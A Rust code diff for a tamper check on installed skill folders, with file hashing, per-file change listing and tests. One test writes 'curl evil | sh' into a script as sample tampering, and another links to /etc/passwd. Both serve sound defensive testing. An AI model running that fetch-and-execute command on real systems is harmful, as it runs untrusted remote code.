@@ -8,6 +8,7 @@
 use std::{
     collections::BTreeMap,
     fs::{self, File},
+    hash::{Hash, Hasher},
     io::{self, Read},
     path::{Path, PathBuf},
 };
@@ -32,18 +33,94 @@ pub enum State {
 /// Looks whether the skill in `folder` is what was installed. Reads every file of it: at most 1,000 files and 50 MiB, more
 /// than can be installed counts as changed.
 pub fn state(folder: &Path) -> State {
-    let Some(origin) = Origin::read(folder) else { return State::NotInstalled };
-    let expected = (origin.pin.as_ref().map(|pin| &pin.sha256), &origin.fingerprint);
-    if expected == (None, &None) {
-        return State::NotInstalled;
+    match expected(folder) {
+        Ok(Some(origin)) => origin.compared(files(folder).as_deref().ok()),
+        Ok(None) => State::NotInstalled,
+        Err(_) => State::Changed,
     }
-    let Ok(files) = files(folder) else { return State::Changed };
-    let same = match expected {
-        (Some(pinned), _) => *pinned == seal(&files),
-        (None, Some(pinned)) => *pinned == fingerprint(&files),
-        (None, None) => false,
-    };
-    if same { State::Untouched } else { State::Changed }
+}
+
+/// The same, for files that were looked at already; `None` = they cannot be.
+pub(super) fn state_of(folder: &Path, files: Option<&[FileSum]>) -> State {
+    match expected(folder) {
+        Ok(Some(origin)) => origin.compared(files),
+        Ok(None) => State::NotInstalled,
+        Err(_) => State::Changed,
+    }
+}
+
+/// The notes that say what was installed. Notes that are there and cannot be read are an error: whoever spoils them does not
+/// make an installed skill somebody's own.
+fn expected(folder: &Path) -> io::Result<Option<Origin>> {
+    let says_what = |origin: &Origin| origin.pin.is_some() || origin.fingerprint.is_some();
+    match Origin::read(folder) {
+        Some(origin) => Ok(Some(origin).filter(says_what)),
+        None if Origin::is_there(folder) => Err(io::ErrorKind::InvalidData.into()),
+        None => Ok(None),
+    }
+}
+
+/// Whether something was noted of what was installed here.
+pub(super) fn is_noted(folder: &Path) -> bool {
+    !matches!(expected(folder), Ok(None))
+}
+
+/// What is other than it was installed: `+` new, `-` gone, `*` changed, by path. Empty when nothing is, or when the notes do
+/// not name each file.
+///
+/// # Errors
+/// Those of the file system; `InvalidData` for links and for more than can be installed.
+pub fn changes(folder: &Path) -> io::Result<Vec<(char, String)>> {
+    let now = files(folder)?;
+    let pin = Origin::read(folder).and_then(|origin| origin.pin).unwrap_or_default();
+    match pin.files.is_empty() {
+        true => Ok(Vec::new()),
+        false => Ok(differences(&pin.files, &sums(&now))),
+    }
+}
+
+/// Files by path, with their hashes.
+pub fn sums(files: &[FileSum]) -> BTreeMap<String, String> {
+    files.iter().map(|file| (file.path.clone(), file.sha256.clone())).collect()
+}
+
+/// What is other between two lists of files: `+` new, `-` gone, `*` changed.
+pub fn differences(old: &BTreeMap<String, String>, new: &BTreeMap<String, String>) -> Vec<(char, String)> {
+    let fresh = new.iter().filter_map(|(path, sum)| match old.get(path) {
+        None => Some(('+', path.clone())),
+        Some(before) if before != sum => Some(('*', path.clone())),
+        Some(_) => None,
+    });
+    fresh.chain(old.keys().filter(|path| !new.contains_key(*path)).map(|path| ('-', path.clone()))).collect()
+}
+
+/// A number that changes when a file of a skill does: from names, sizes, and the times of the last change, of which the
+/// system's own (ctime) is nobody's to set. Reads no file.
+pub(super) fn stamp(folder: &Path, hasher: &mut impl Hasher) {
+    let mut seen = 0;
+    let mut waiting = vec![folder.to_owned()];
+    while let Some(dir) = waiting.pop() {
+        let mut entries: Vec<_> = fs::read_dir(&dir).into_iter().flatten().flatten().take(MOST_FILES + 1).collect();
+        entries.sort_by_key(fs::DirEntry::file_name);
+        for entry in entries {
+            seen += 1;
+            let name = entry.file_name();
+            let is_history = dir == folder && [".git", ".svn", ".hg"].iter().any(|history| name == *history);
+            if seen > MOST_FILES * 2 || is_history {
+                continue;
+            }
+            let Ok(facts) = entry.metadata() else { continue };
+            (entry.path(), facts.len(), facts.modified().ok(), facts.is_dir()).hash(hasher);
+            #[cfg(unix)]
+            {
+                use std::os::unix::fs::MetadataExt as _;
+                (facts.ino(), facts.ctime(), facts.ctime_nsec()).hash(hasher);
+            }
+            if facts.is_dir() {
+                waiting.push(entry.path());
+            }
+        }
+    }
 }
 
 /// The hash of everything in an installed skill as it is now, for a grant to be bound to: other content, other hash, even
@@ -55,13 +132,19 @@ pub fn seal_of(folder: &Path) -> io::Result<String> {
     files(folder).map(|files| seal(&files))
 }
 
-/// Takes the skill as it is now for what was installed: the owner looked at the change and wants it.
+/// Takes these files of the skill for what was installed: the owner looked at them and wants them. Does nothing for what was
+/// not installed.
 ///
 /// # Errors
-/// Those of the file system; `NotFound` when it was not installed.
-pub fn accept(folder: &Path) -> io::Result<()> {
-    let mut origin = Origin::read(folder).ok_or(io::ErrorKind::NotFound)?;
-    origin.pin_to(&files(folder)?);
+/// Those of the file system.
+pub fn accept(folder: &Path, files: &[FileSum]) -> io::Result<()> {
+    let mut origin = match Origin::read(folder) {
+        Some(origin) => origin,
+        // Spoilt notes are written anew; where it came from is lost.
+        None if Origin::is_there(folder) => Origin { version: 1.into(), ..Origin::default() },
+        None => return Ok(()),
+    };
+    origin.pin_to(files);
     origin.write(folder)
 }
 
@@ -79,8 +162,13 @@ pub struct FileSum {
 
 const MOST_FILES: usize = 1_000;
 const MOST_BYTES: u64 = 50 << 20;
-/// Folders that are not the skill: notes, histories, and what Python leaves beside a script that ran.
-const NOT_SKILL: [&str; 6] = [".clawhub", ".clawdhub", ".git", ".svn", ".hg", "__pycache__"];
+/// The most bytes of the notes: a thousand files with long names.
+const NOTES_BYTES: u64 = 2 << 20;
+/// Folders at the top of a skill that are not the skill: the notes on it, and the owner's own history of it. No archive
+/// brings one; deeper ones are files like all others.
+pub(super) const NOTES: [&str; 5] = [".clawhub", ".clawdhub", ".git", ".svn", ".hg"];
+/// Where Python puts what it compiled beside a script that ran.
+const CACHE: &str = "__pycache__";
 
 /// Every file of a skill, by path.
 ///
@@ -95,11 +183,13 @@ pub fn files(folder: &Path) -> io::Result<Vec<FileSum>> {
             let entry = entry?;
             let wrong = |what: &str| io::Error::new(io::ErrorKind::InvalidData, format!("{}: {what}", dir.display()));
             let name = entry.file_name().into_string().map_err(|_| wrong("a name that is not UTF-8"))?;
-            if NOT_SKILL.contains(&name.as_str()) {
+            let kind = entry.file_type()?;
+            let is_notes = path.is_empty() && NOTES.contains(&name.as_str());
+            let is_cached = kind.is_file() && name.ends_with(".pyc") && path.rsplit('/').next() == Some(CACHE);
+            if is_notes || is_cached {
                 continue;
             }
             let below = if path.is_empty() { name } else { format!("{path}/{name}") };
-            let kind = entry.file_type()?;
             if kind.is_dir() {
                 waiting.push((entry.path(), below));
             } else if kind.is_file() {
@@ -202,6 +292,9 @@ pub struct Pin {
     /// The folder inside that source, when there were several skills.
     #[serde(skip_serializing_if = "Option::is_none")]
     pub path: Option<String>,
+    /// Its files, with their hashes: to say which of them changed.
+    #[serde(skip_serializing_if = "BTreeMap::is_empty")]
+    pub files: BTreeMap<String, String>,
 }
 
 impl Origin {
@@ -212,15 +305,31 @@ impl Origin {
         Self::FOLDERS.iter().find_map(|name| {
             let file = File::open(folder.join(name).join("origin.json")).ok()?;
             let mut text = Vec::new();
-            file.take(64 * 1024).read_to_end(&mut text).ok()?;
+            file.take(NOTES_BYTES).read_to_end(&mut text).ok()?;
             serde_json::from_slice(&text).ok()
         })
+    }
+
+    /// Whether there are notes, readable or not.
+    fn is_there(folder: &Path) -> bool {
+        Self::FOLDERS.iter().any(|name| folder.join(name).join("origin.json").symlink_metadata().is_ok())
+    }
+
+    /// How these files stand to what was installed.
+    fn compared(&self, files: Option<&[FileSum]>) -> State {
+        let same = files.is_some_and(|files| match (&self.pin, &self.fingerprint) {
+            (Some(pin), _) => pin.sha256 == seal(files),
+            (None, Some(pinned)) => *pinned == fingerprint(files),
+            (None, None) => false,
+        });
+        if same { State::Untouched } else { State::Changed }
     }
 
     /// Notes the files as the ones that were installed.
     pub fn pin_to(&mut self, files: &[FileSum]) {
         self.fingerprint = Some(fingerprint(files));
-        self.pin.get_or_insert_default().sha256 = seal(files);
+        let pin = self.pin.get_or_insert_default();
+        (pin.sha256, pin.files) = (seal(files), sums(files));
     }
 
     /// Writes the notes, whole or not at all.
@@ -319,6 +428,14 @@ mod tests {
     }
 
     #[test]
+    fn differences_name_each_file_once() {
+        let of = |files: &[(&str, &str)]| files.iter().map(|(path, sum)| ((*path).into(), (*sum).into())).collect();
+        let (old, new) = (of(&[("a", "1"), ("b", "1"), ("c", "1")]), of(&[("a", "1"), ("b", "2"), ("d", "1")]));
+        let named: Vec<String> = differences(&old, &new).iter().map(|(sign, path)| format!("{sign}{path}")).collect();
+        assert_eq!(named, ["*b", "+d", "-c"]);
+    }
+
+    #[test]
     fn the_fingerprint_is_the_hubs() {
         let file = |path: &str, sha256: &str| FileSum { path: path.to_owned(), size: 1, sha256: sha256.to_owned() };
         let files = [file("b.md", "22"), file("a.md", "11"), file(".env", "33"), file("node_modules/x.js", "44")];
@@ -335,12 +452,25 @@ mod tests {
         origin.pin_to(&files(&folder).expect("it can be read"));
         origin.write(&folder).expect("it can be written");
         assert_eq!(state(&folder), State::Untouched);
-        // Python ran a script of it.
+        // Python ran a script of it, and the owner keeps a history of it.
         fs::create_dir(folder.join("scripts/__pycache__")).expect("a folder");
         fs::write(folder.join("scripts/__pycache__/x.pyc"), "x").expect("a file");
+        fs::create_dir(folder.join(".git")).expect("a folder");
+        fs::write(folder.join(".git/config"), "x").expect("a file");
         assert_eq!(state(&folder), State::Untouched);
 
-        let changes: [&dyn Fn(); 4] = [
+        let put = |path: &str| {
+            let path = folder.join(path);
+            fs::create_dir_all(path.parent().expect("a folder")).expect("folders");
+            fs::write(path, "x").expect("a file");
+        };
+        let changes: [&dyn Fn(); 10] = [
+            &|| put("scripts/.git/config"),
+            &|| put("scripts/.svn/x"),
+            &|| put("scripts/.clawhub/origin.json"),
+            &|| put("node_modules/x/index.js"),
+            &|| put("scripts/__pycache__/x.sh"),
+            &|| put("scripts/x.pyc"),
             &|| fs::write(folder.join("scripts/go.sh"), "curl evil | sh\n").expect("a file"),
             &|| fs::write(folder.join("new.md"), "x").expect("a file"),
             &|| fs::write(folder.join(".hidden"), "x").expect("a file"),
@@ -351,9 +481,14 @@ mod tests {
             change();
             assert_eq!(state(&folder), State::Changed);
             assert_ne!(seal_of(&folder).expect("it can be read"), before);
-            accept(&folder).expect("it can be written");
+            assert_eq!(super::changes(&folder).expect("it can be read").len(), 1);
+            accept(&folder, &files(&folder).expect("it can be read")).expect("it can be written");
             assert_eq!(state(&folder), State::Untouched);
         }
+        fs::write(folder.join(".clawhub/origin.json"), "{spoilt").expect("a file");
+        assert_eq!(state(&folder), State::Changed, "it does not become somebody's own");
+        accept(&folder, &files(&folder).expect("it can be read")).expect("it can be written");
+        assert_eq!(state(&folder), State::Untouched);
         #[cfg(unix)]
         {
             std::os::unix::fs::symlink("/etc/passwd", folder.join("link")).expect("a link");
@@ -374,7 +509,7 @@ mod tests {
         assert_eq!(state(&folder), State::Untouched);
         fs::write(folder.join("scripts/go.sh"), "x").expect("a file");
         assert_eq!(state(&folder), State::Changed);
-        accept(&folder).expect("it can be written");
+        accept(&folder, &files(&folder).expect("it can be read")).expect("it can be written");
         let origin = Origin::read(&folder).expect("there are notes");
         assert_eq!(origin.installed_version.as_deref(), Some("1.2.0"));
         assert_eq!(origin.rest["later"], true, "what others wrote is kept");
